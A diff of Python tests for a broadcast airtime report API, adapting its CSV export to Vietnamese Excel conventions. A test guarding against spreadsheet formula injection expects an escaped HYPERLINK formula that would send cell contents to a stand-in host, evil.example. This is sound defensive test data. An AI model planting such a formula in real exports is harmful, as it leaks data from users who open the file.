@@ -160,18 +160,23 @@ def test_airtime_report_json_and_csv(api: Api) -> None:
     headers = api.auth("operator")
     rows = api.client.get("/api/reports/airtime?from=2031-03&to=2031-04", headers=headers).json()
     assert rows == [
-        {"month": "2031-03", "topic": "Chuyển đổi số", "minutes": 15.0, "broadcasts": 2},
-        {"month": "2031-04", "topic": "Y tế", "minutes": 4.0, "broadcasts": 1},
+        {"month": "2031-03", "topic": "Chuyển đổi số", "minutes": 15.0, "broadcasts": 2,
+         "topic_name": "Chuyển đổi số"},
+        {"month": "2031-04", "topic": "Y tế", "minutes": 4.0, "broadcasts": 1,
+         "topic_name": "Y tế"},
     ]
     response = api.client.get("/api/reports/airtime.csv?from=2031-03&to=2031-04", headers=headers)
     assert response.status_code == 200
     assert response.headers["content-type"].startswith("text/csv")
     assert response.content.startswith(b"\xef\xbb\xbf")
-    parsed = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    # For Excel set to Vietnamese: ";" between fields, decimal comma, Vietnamese headers.
+    text = response.content.decode("utf-8-sig")
+    parsed = list(csv.reader(io.StringIO(text), delimiter=";"))
     assert parsed == [
-        ["month", "topic", "minutes", "broadcasts"],
-        ["2031-03", "Chuyển đổi số", "15.0", "2"],
-        ["2031-04", "Y tế", "4.0", "1"],
+        ["Tháng", "Chuyên mục", "Số phút", "Số buổi phát"],
+        ["03/2031", "Chuyển đổi số", "15,0", "2"],
+        ["04/2031", "Y tế", "4,0", "1"],
+        ["Tổng cộng", "", "19,0", "3"],
     ]
     march = api.client.get("/api/reports/airtime?from=2031-03&to=2031-03", headers=headers)
     assert [r["month"] for r in march.json()] == ["2031-03"]
@@ -185,8 +190,8 @@ def test_airtime_csv_never_hands_a_spreadsheet_a_formula(api: Api) -> None:
         _log(api, datetime(2031, 5, day, 0, 0, tzinfo=UTC), 3, topic, Outcome.AIRED)
     headers = api.auth("operator")
     response = api.client.get("/api/reports/airtime.csv?from=2031-05&to=2031-05", headers=headers)
-    parsed = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
-    cells = {row[1] for row in parsed[1:]}
+    parsed = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    cells = {row[1] for row in parsed[1:-1]}  # (the last row is the total)
     assert cells == {
         '\'=HYPERLINK("http://evil.example/?d="&A1,"Bấm")',
         "'+84912",
